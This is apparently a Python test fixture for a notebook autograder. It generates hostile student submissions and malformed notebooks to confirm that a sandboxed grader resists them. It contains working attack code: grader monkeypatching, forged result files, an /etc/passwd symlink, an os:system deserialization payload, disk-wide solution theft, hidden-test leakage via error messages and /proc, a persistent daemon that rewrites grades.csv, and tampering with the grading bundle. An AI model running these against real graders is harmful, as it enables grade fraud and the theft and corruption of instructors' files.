"""Hostile submissions to the fixture chapter (90): one per way a student could game grading.

``attacks(...)`` returns notebooks built from the student copy (blank answers) or the solution
copy, plus the attacker's code. Each attack is written so that it *would* score, leak or persist
against a grader that runs it with the instructor's permissions (the grader before the sandbox:
``otter run`` in the instructor's account), and must get nothing from the sandboxed grader. The
paths an attacker could find or guess (the repository, the bundle, the submissions folder,
grades.csv) are given to it outright: the worst case.
"""

from __future__ import annotations

import json
import pathlib

# Leaks and traces are tagged with this, so the tests can look for them anywhere.
MARK = "PWNED-BY-SUBMISSION"


def _code(source: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}


def _insert_after_parameters(nb: dict, source: str) -> dict:
    nb = json.loads(json.dumps(nb))
    cells = nb["cells"]
    at = next(i for i, c in enumerate(cells) if "parameters" in c["metadata"].get("tags", []))
    cells.insert(at + 1, _code(source))
    return nb


def _append_to_exercises(nb: dict, source: str) -> dict:
    nb = json.loads(json.dumps(nb))
    for c in nb["cells"]:
        if "exercise" in c["metadata"]:
            c["source"] = (c["source"] if isinstance(c["source"], str) else "".join(c["source"])) + "\n" + source
    return nb


def _append_cell(nb: dict, source: str) -> dict:
    nb = json.loads(json.dumps(nb))
    nb["cells"].append(_code(source))
    return nb


MONKEYPATCH = r'''
# Monkeypatch whatever decides the grade, if it runs in this process.
import builtins, json, os, sys, glob
try:  # otter-grader: its test files run their cases in this kernel
    from otter.test_files.exception_test import ExceptionTestFile
    from otter.test_files.abstract_test import TestCaseResult

    def _always_pass(self, env):
        self.test_case_results = [TestCaseResult(test_case=tc, message="passed", passed=True) for tc in self.test_cases]

    ExceptionTestFile.run = _always_pass
except Exception:
    pass
import numpy as _np, numpy.testing as _npt
_npt.assert_allclose = lambda *a, **k: None
_np.array_equal = lambda *a, **k: True
builtins.abs = lambda x: 0.0
for _name, _mod in list(sys.modules.items()):  # the grader's runner, if it is in here
    if "grad" in _name or "runner" in _name or "otter" in _name:
        for _attr in ("error_name", "_probe", "_write_answers", "decode"):
            if hasattr(_mod, _attr):
                try:
                    setattr(_mod, _attr, (lambda *a, **k: {"passed": True, "score": 6}))
                except Exception:
                    pass
'''

FORGE = r'''
# Forge answers and verdicts wherever the grader might read them, after it wrote its own.
import json, os
_evil = {"$namedtuple": "os:system", "fields": ["cmd"], "items": ["touch /tmp/__MARK__-decoded"]}
_calls = [{"ok": True, "value": _evil}, {"ok": True, "value": {"$namedtuple": "subprocess:Popen", "fields": ["args"], "items": [["touch", "/tmp/__MARK__-popen"]]}}]
for _d in ["/work/out", "/work/out/answers", os.getcwd(), os.path.join(os.getcwd(), "out", "answers")]:
    try:
        os.makedirs(_d, exist_ok=True)
        for _q in ("90.1", "90.2", "90.3"):
            with open(os.path.join(_d, _q + ".json"), "w") as _f:
                json.dump({"calls": _calls * 10, "vars": {}, "passed": True, "score": 6}, _f)
        for _n in ("results.json", "verdicts.json", "grades.json", "done.json"):
            with open(os.path.join(_d, _n), "w") as _f:
                json.dump({"errors": [], "passed": True, "scores": {"90.1": 1, "90.2": 2, "90.3": 3}}, _f)
        try:
            os.symlink("/etc/passwd", os.path.join(_d, "90.2.npz.tmp"))
            os.replace(os.path.join(_d, "90.2.npz.tmp"), os.path.join(_d, "90.2.npz"))
        except OSError:
            pass
    except OSError:
        pass
'''

FIND_SOLUTIONS = r'''
# Find the solutions (the repository through prunebook.__file__, the bundle, anything on disk)
# and run them in place of the blank answers.
import json, os, pathlib, re, time
import prunebook

_KNOWN = __KNOWN__


def _solution_sources():
    roots = [pathlib.Path(prunebook.__file__).resolve().parents[k] for k in range(4)] + [pathlib.Path(p) for p in _KNOWN]
    seen, found = set(), []
    for root in roots:
        for pattern in ("tests/fixtures/90_fixture.ipynb", "_build/assignments/solutions/*.ipynb", "solutions/*.ipynb",
                        "grading/*.reference.ipynb", "*.reference.ipynb", "*90_fixture*.ipynb"):
            try:
                found += [p for p in root.glob(pattern) if p not in seen]
                seen.update(found)
            except OSError:
                pass
    stop = time.time() + 3
    for top, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", ".git", "site-packages", "node_modules")]
        found += [pathlib.Path(top) / f for f in files if f.endswith(".ipynb") and "90_fixture" in f]
        if time.time() > stop:
            break
    sources = []
    for p in found:
        try:
            nb = json.loads(p.read_text())
        except Exception:
            continue
        for c in nb.get("cells", []):
            src = "".join(c.get("source", "")) if isinstance(c.get("source"), list) else c.get("source", "")
            if "# BEGIN SOLUTION" in src and "raise NotImplementedError" not in src:
                sources.append(src)
    return sources


def _steal():
    for src in _solution_sources():
        try:
            exec(src, globals())
        except Exception:
            pass
'''

LEAK = r'''
# Read the hidden tests wherever they are, and carry them out in an error message (and in the
# error's class name, and on stdout and stderr).
import glob, json, os, pathlib, sys, zipfile

_KNOWN = __KNOWN__
_secret = []
for _root in _KNOWN + [os.getcwd(), "/", "/tmp", "/autograder"]:
    for _p in glob.glob(os.path.join(_root, "**", "*.zip"), recursive=False) + glob.glob(os.path.join(_root, "*.zip")):
        try:
            with zipfile.ZipFile(_p) as _z:
                _secret += [_z.read(n).decode() for n in _z.namelist() if n.startswith("tests/")]
        except Exception:
            pass
    for _p in glob.glob(os.path.join(_root, "*.reference.ipynb")) + glob.glob(os.path.join(_root, "tests", "*.py")):
        try:
            _secret.append(pathlib.Path(_p).read_text())
        except Exception:
            pass
for _pid in os.listdir("/proc"):
    try:
        _secret.append(open(f"/proc/{_pid}/cmdline").read().replace("\0", " "))
    except Exception:
        pass
_hidden = [ln.strip() for s in _secret for ln in s.splitlines() if "hidden" in ln or "reference" in ln]
_payload = "__MARK__ " + " | ".join(_hidden)[:250]
print(_payload)
print(_payload, file=sys.stderr)
_Leak = type("__MARKID___" + "".join(ch for ch in " ".join(_hidden) if ch.isalnum())[:60], (RuntimeError,), {})
'''


def attacks(student: dict, solution: dict, *, root: pathlib.Path, bundle: pathlib.Path, solutions: pathlib.Path,
            submissions: pathlib.Path, grades_csv: pathlib.Path, token: str) -> dict[str, dict | str]:
    """name -> notebook (a dict) or raw text, for every attack; ``token`` tags the background process."""
    known = [str(root), str(bundle), str(solutions), str(bundle.parent)]
    out: dict[str, dict | str] = {}

    # 1. monkeypatching the grader (and forging its outputs, and hostile plain data)
    nb = _insert_after_parameters(student, MONKEYPATCH)
    out["a_monkeypatch.ipynb"] = _append_cell(nb, FORGE.replace("__MARK__", MARK))

    # 2. reading the solutions (through prunebook.__file__, the bundle, the disk) and running them
    nb = _insert_after_parameters(student, FIND_SOLUTIONS.replace("__KNOWN__", repr(known)))
    out["a_find_solutions.ipynb"] = _append_to_exercises(nb, "_steal()")

    # 3. leaking the hidden tests through the feedback
    nb = _insert_after_parameters(student, LEAK.replace("__KNOWN__", repr(known)).replace("__MARKID__", MARK.replace("-", "_")).replace("__MARK__", MARK))
    nb = json.loads(json.dumps(nb))
    for c in nb["cells"]:
        if c["metadata"].get("exercise", {}).get("id") == "90.1":
            c["source"] += "\nraise RuntimeError(_payload)"
        if c["metadata"].get("exercise", {}).get("id") == "90.2":
            c["source"] += "\nraise _Leak(_payload)"
    out["a_leak.ipynb"] = nb

    # 4. a background process, in a new session, that outlives grading and rewrites its own row
    daemon = (
        "import os, sys, time\n"
        "if os.fork():\n    os._exit(0)\n"
        "os.setsid()\n"
        "if os.fork():\n    os._exit(0)\n"
        "end = time.time() + 90\n"
        f"target = {str(grades_csv)!r}\n"
        "while time.time() < end:\n"
        "    try:\n"
        "        rows = open(target).read().splitlines()\n"
        "        rows = [r if not r.startswith('a_daemon') else 'a_daemon.ipynb,90_fixture,1,2,3,6,6,0.0' for r in rows]\n"
        "        open(target, 'w').write('\\n'.join(rows) + '\\n')\n"
        "    except OSError:\n"
        "        pass\n"
        "    time.sleep(0.2)\n"
    )
    spawn = (
        "import subprocess, sys\n"
        f"subprocess.Popen([sys.executable, '-c', {daemon!r}, {token!r}], start_new_session=True,\n"
        "                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
    )
    out["a_daemon.ipynb"] = _insert_after_parameters(student, spawn)

    # 5. writing to the submissions folder (a later submission, a new notebook) and the repository
    write = (
        "import json, os, pathlib\n"
        f"subs = pathlib.Path({str(submissions)!r})\n"
        f"root = pathlib.Path({str(root)!r})\n"
        f"blank = {json.dumps(student)!r}\n"
        "for action in (lambda: (subs / 'z_victim.ipynb').write_text(blank),\n"
        "               lambda: (subs / 'added_by_attack.ipynb').write_text(blank),\n"
        "               lambda: (root / 'attack-was-here.txt').write_text('" + MARK + "'),\n"
        "               lambda: (root / '_build' / 'attack-was-here.txt').write_text('" + MARK + "'),\n"
        "               lambda: (root / 'src' / 'prunebook' / 'attack_was_here.py').write_text('" + MARK + "')):\n"
        "    try:\n"
        "        action()\n"
        "    except OSError:\n"
        "        pass\n"
    )
    out["a_write_folders.ipynb"] = _insert_after_parameters(student, write)

    # 6. rewriting the grading bundle so that every test passes (for every later submission)
    rewrite = (
        "import io, json, pathlib, re, zipfile\n"
        f"bundle = pathlib.Path({str(bundle)!r})\n"
        "for z in bundle.glob('*.zip'):\n"
        "    try:\n"
        "        src = zipfile.ZipFile(io.BytesIO(z.read_bytes()))\n"
        "        buf = io.BytesIO()\n"
        "        with zipfile.ZipFile(buf, 'w') as dst:\n"
        "            for n in src.namelist():\n"
        "                data = src.read(n)\n"
        "                if n.startswith('tests/'):\n"
        "                    data = re.sub(rb'exec\\(compile\\(.*\\), dict\\(env\\)\\)', b'pass', data)\n"
        "                dst.writestr(n, data)\n"
        "        z.write_bytes(buf.getvalue())\n"
        "    except OSError:\n"
        "        pass\n"
        "for r in bundle.glob('*.reference.ipynb'):\n"
        "    try:\n"
        "        nb = json.loads(r.read_text())\n"
        "        for c in nb['cells']:\n"
        "            tags = c.get('metadata', {}).get('tags', [])\n"
        "            if 'check' in tags or 'hidden-check' in tags:\n"
        "                c['source'] = 'pass'\n"
        "        r.write_text(json.dumps(nb))\n"
        "    except OSError:\n"
        "        pass\n"
    )
    out["a_rewrite_bundle.ipynb"] = _insert_after_parameters(student, rewrite)

    # 7. malformed notebooks, of every shape
    def broken(fn):
        nb = json.loads(json.dumps(solution))
        fn(nb)
        return nb

    first_code = next(i for i, c in enumerate(solution["cells"]) if c["cell_type"] == "code")
    out["m_metadata_string.ipynb"] = broken(lambda nb: nb.__setitem__("metadata", "a string"))
    out["m_cell_metadata_string.ipynb"] = broken(lambda nb: nb["cells"][first_code].__setitem__("metadata", "a string"))
    out["m_cells_not_a_list.ipynb"] = broken(lambda nb: nb.__setitem__("cells", {"0": nb["cells"][0]}))
    out["m_cell_is_a_number.ipynb"] = broken(lambda nb: nb["cells"].__setitem__(first_code, 42))
    out["m_source_dict.ipynb"] = broken(lambda nb: nb["cells"][first_code].__setitem__("source", {"x": 1}))
    out["m_tags_string.ipynb"] = broken(lambda nb: nb["cells"][first_code]["metadata"].__setitem__("tags", "parameters"))
    out["m_exercise_list.ipynb"] = broken(
        lambda nb: next(c for c in nb["cells"] if "exercise" in c["metadata"])["metadata"].__setitem__("exercise", [1, 2]))
    out["m_prunebook_string.ipynb"] = broken(lambda nb: nb["metadata"].__setitem__("prunebook", "90_fixture"))
    out["m_nbformat3.ipynb"] = {"nbformat": 3, "nbformat_minor": 0, "metadata": {},
                                "worksheets": [{"cells": [{"cell_type": "code", "input": "x = 1", "outputs": []}]}]}
    out["m_no_cells.ipynb"] = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}}
    out["m_deep_json.ipynb"] = "[" * 100_000 + "]" * 100_000
    return out


MALFORMED = [n for n in (
    "m_metadata_string.ipynb", "m_cell_metadata_string.ipynb", "m_cells_not_a_list.ipynb", "m_cell_is_a_number.ipynb",
    "m_source_dict.ipynb", "m_tags_string.ipynb", "m_exercise_list.ipynb", "m_prunebook_string.ipynb",
    "m_nbformat3.ipynb", "m_no_cells.ipynb", "m_deep_json.ipynb")]
ATTACKS = ["a_monkeypatch.ipynb", "a_find_solutions.ipynb", "a_leak.ipynb", "a_daemon.ipynb", "a_write_folders.ipynb",
           "a_rewrite_bundle.ipynb"]
